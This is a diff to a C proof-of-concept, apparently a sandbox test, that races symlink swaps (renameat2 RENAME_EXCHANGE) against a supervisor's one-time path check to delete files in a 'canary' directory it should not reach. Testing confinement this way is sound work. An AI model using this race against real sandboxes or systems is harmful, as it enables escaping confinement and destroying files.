@@ -2,6 +2,7 @@
 // The supervisor resolves l/NAME once; the kernel walks l again afterwards. RENAME_EXCHANGE flips the
 // two links atomically, so at any instant l points at one directory or the other.
 #define _GNU_SOURCE
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <pthread.h>
@@ -21,6 +22,18 @@
 static atomic_int stop;
 static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
 
+// The canary's regular files (top level), as names relative to it: the attack does not assume them.
+static int canary_files(const char *canary, char names[][256], int max) {
+    DIR *d = opendir(canary);
+    int n = 0;
+    struct dirent *e;
+    if (!d) { perror(canary); return 0; }
+    while (n < max && (e = readdir(d)))
+        if (e->d_type == DT_REG) snprintf(names[n++], 256, "%s", e->d_name);
+    closedir(d);
+    return n;
+}
+
 static void *flipper(void *arg) {
     (void)arg;
     while (!atomic_load(&stop)) syscall(SYS_renameat2, AT_FDCWD, "race-l", AT_FDCWD, "race-l2", RENAME_EXCHANGE);
@@ -31,23 +44,25 @@ int main(void) {
     const char *canary = getenv("CANARY");
     if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
     mkdir("race-decoy", 0755);
-    mkdir("race-decoy/sub", 0755);
     unlink("race-l"); unlink("race-l2");
     printf("symlink race-l -> race-decoy: %d\n", symlink("race-decoy", "race-l"));
     printf("symlink race-l2 -> %s: %d\n", canary, symlink(canary, "race-l2"));
     pthread_t t;
     pthread_create(&t, NULL, flipper, NULL);
-    const char *names[] = {"race-l/a", "race-l/b", "race-l/c", "race-l/sub/deep"};
+    char files[4][256], names[4][300], cpath[4][4096];
+    if (canary_files(canary, files, 4) < 4) { fprintf(stderr, "fewer than 4 canary files\n"); return 2; }
+    for (int i = 0; i < 4; i++) {
+        snprintf(names[i], sizeof names[i], "race-l/%s", files[i]);
+        snprintf(cpath[i], sizeof cpath[i], "%s/%s", canary, files[i]);
+    }
     long tries = 0, ok = 0, counts[256] = {0};
-    char cpath[4][4096];
-    for (int i = 0; i < 4; i++) snprintf(cpath[i], sizeof cpath[i], "%s/%s", canary, names[i] + 7);
     double deadline = now() + 4.0;
     while (now() < deadline) {
         int gone = 0; struct stat st;
         for (int i = 0; i < 4; i++) gone += lstat(cpath[i], &st) < 0;
         if (gone == 4) break;
         int i = (int)(tries % 4);
-        char decoy[64]; snprintf(decoy, sizeof decoy, "race-decoy/%s", names[i] + 7);
+        char decoy[300]; snprintf(decoy, sizeof decoy, "race-decoy/%s", files[i]);
         close(open(decoy, O_WRONLY | O_CREAT, 0644));
         long rc = syscall(SYS_unlinkat, AT_FDCWD, names[i], 0);
         tries++;
